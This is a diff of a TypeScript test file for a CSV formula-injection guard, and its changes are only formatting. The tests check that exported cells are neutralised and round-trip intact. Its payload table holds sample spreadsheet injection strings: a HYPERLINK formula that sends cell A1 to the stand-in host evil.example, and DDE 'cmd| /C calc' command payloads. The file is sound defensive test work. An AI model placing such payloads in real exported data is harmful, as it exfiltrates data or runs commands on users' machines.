@@ -1,7 +1,12 @@
 import { describe, expect, it } from 'vitest'
 import fc from 'fast-check'
 import * as E from 'fp-ts/lib/Either.js'
-import { FORMULA_PREFIXES, isFormulaLike, neutraliseFormula, restoreFormula } from '../../../src/io/csv/formula-guard.js'
+import {
+  FORMULA_PREFIXES,
+  isFormulaLike,
+  neutraliseFormula,
+  restoreFormula,
+} from '../../../src/io/csv/formula-guard.js'
 import { toCsv } from '../../../src/io/csv/write.js'
 import { readCsvEither } from '../../../src/io/csv/read.js'
 
@@ -10,9 +15,9 @@ import { readCsvEither } from '../../../src/io/csv/read.js'
 // single quote and the cell wrapped in double quotes.
 const PAYLOADS: Record<string, string> = {
   '=': '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '+': '+1+cmd|\' /C calc\'!A0',
-  '-': '-2+3+cmd|\' /C calc\'!A0',
-  '@': '@SUM(1+9)*cmd|\' /C calc\'!A0',
+  '+': "+1+cmd|' /C calc'!A0",
+  '-': "-2+3+cmd|' /C calc'!A0",
+  '@': "@SUM(1+9)*cmd|' /C calc'!A0",
   '\t': '\t=1+1',
   '\r': '\r=1+1',
   '\n': '\n=1+1',
@@ -25,7 +30,9 @@ const PAYLOADS: Record<string, string> = {
 
 describe('formula-injection guard', () => {
   it('covers exactly the OWASP prefixes', () => {
-    expect([...FORMULA_PREFIXES].sort()).toEqual(['\t', '\r', '\n', '+', '-', '=', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'].sort())
+    expect([...FORMULA_PREFIXES].sort()).toEqual(
+      ['\t', '\r', '\n', '+', '-', '=', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'].sort(),
+    )
     expect(Object.keys(PAYLOADS).sort()).toEqual([...FORMULA_PREFIXES].sort())
   })
 
@@ -49,12 +56,15 @@ describe('formula-injection guard', () => {
     expect(toCsv([{ unit: 'Acute care', delta: -0.25, note: '-3' }])).toBe(`unit,delta,note\nAcute care,-0.25,"'-3"\n`)
   })
 
-  it.each(Object.entries(PAYLOADS))('round-trips %j through toCsv and readCsv with stripFormulaGuard', (_prefix, payload) => {
-    // readCsv trims only outside quotes, and a guarded cell is always quoted, so even
-    // the tab and CR payloads come back exactly.
-    const back = readCsvEither(toCsv([{ unit: payload }]), { stripFormulaGuard: true })
-    expect(E.isRight(back) && back.right.records[0]!.cells[0]).toBe(payload)
-  })
+  it.each(Object.entries(PAYLOADS))(
+    'round-trips %j through toCsv and readCsv with stripFormulaGuard',
+    (_prefix, payload) => {
+      // readCsv trims only outside quotes, and a guarded cell is always quoted, so even
+      // the tab and CR payloads come back exactly.
+      const back = readCsvEither(toCsv([{ unit: payload }]), { stripFormulaGuard: true })
+      expect(E.isRight(back) && back.right.records[0]!.cells[0]).toBe(payload)
+    },
+  )
 
   it('neutralise then restore is the identity on every string', () => {
     fc.assert(fc.property(fc.string(), (s) => restoreFormula(neutraliseFormula(s)) === s))
